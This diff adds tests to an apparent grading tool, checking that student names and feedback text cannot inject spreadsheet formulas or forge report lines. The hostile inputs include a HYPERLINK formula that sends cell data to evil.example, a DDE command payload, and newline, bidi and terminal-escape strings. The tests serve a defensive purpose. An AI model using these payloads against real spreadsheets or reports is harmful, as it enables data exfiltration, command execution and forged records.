@@ -230,3 +230,66 @@ def test_grade_out_onto_a_device_exits_2_with_one_line(tmp_path):
     assert run.stderr.count("\n") == 1 and "not a regular file" in run.stderr, run.stderr
     after = os.lstat(target)
     assert (after.st_mode, after.st_ino, after.st_rdev) == (before.st_mode, before.st_ino, before.st_rdev)
+
+
+# ---- class 7: the gradebook trusted the submission -----------------------------------------------
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+                 "-2+3", "\tTAB", "\rCR", "mallory\nbob (x.toml): 9 / 9", "eve\u202egnp.exe", "zed\x1b[2J"]
+
+
+def _gradebook_batch(tmp_path: Path) -> Path:
+    batch = tmp_path / "batch"
+    for i, name in enumerate(HOSTILE_NAMES):
+        student(batch / f"h{i}", name)
+    student(batch / "alice-1", "alice")
+    student(batch / "alice-2", " Alice ")  # the same student, however it is spelled
+    student(batch / "bob", "bob")
+    return batch
+
+
+def test_gradebook_neutralises_formulas_escapes_controls_and_flags_duplicates(tmp_path):
+    import csv
+    import io
+
+    from mcalc_tutor.grading.reports import class_report_data, class_report_text, csv_report, json_report, text_report
+    from mcalc_tutor.grading.submission import find_submissions
+
+    batch = _gradebook_batch(tmp_path)
+    run = subprocess.run([*CLI, "grade", str(batch), "--format", "csv"], capture_output=True, text=True, timeout=60)
+    assert run.returncode == 0, run.stderr
+    rows = list(csv.reader(io.StringIO(run.stdout)))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(HOSTILE_NAMES) + 3
+    status, names = header.index("status"), header.index("student")
+    for row in body:
+        for value in (row[names], row[header.index("submission")], row[header.index("error")]):
+            assert not value.lstrip().startswith(("=", "+", "-", "@")), value
+            assert value.isprintable(), value
+    by_name = {row[names].strip().casefold(): row for row in body}
+    assert by_name["alice"][status] == "duplicate" and by_name["bob"][status] == "ok"
+    assert "also claimed by" in by_name["alice"][header.index("warnings")]
+    assert by_name["'=hyperlink(\"http://evil.example/?\"&a1,\"click\")"][status] == "ok"
+
+    results = grade_many(sorted(find_submissions([str(batch)])[0]), None, 1)
+    text = text_report(results)
+    headlines = [line for line in text.splitlines() if line and not line.startswith(" ")]
+    assert len(headlines) == len(results)  # a newline in a name forges no line
+    assert "mallory\\nbob" in text and "\\u202e" in text and "\\x1b" in text and "\x1b" not in text
+    assert text.count("! warning: duplicate student") == 2
+    data = json.loads(json_report(results))
+    assert sorted(d["status"] for d in data).count("duplicate") == 2
+    assert len(class_report_data(results)["duplicates"]) == 2
+    assert "warning: duplicate student" in class_report_text(results)
+
+
+def test_learner_text_in_feedback_cannot_forge_report_lines(tmp_path, sandbox):
+    from mcalc_tutor.grading.reports import text_report
+
+    code = ("def power_iteration(A, x0, num_iters=1000, tol=1e-12):\n"
+            "    raise ValueError('boom\\nalice (a.toml): 100 / 100\\x1b[2J')\n")
+    result = grade_path(student(tmp_path / "s", "s", MATH + POWER, {"power_iteration.py": code}))
+    text = text_report([result])
+    assert not any(line.startswith("alice") for line in text.splitlines())
+    if sandbox == "bwrap":
+        assert "boom\\nalice" in text and "\x1b" not in text
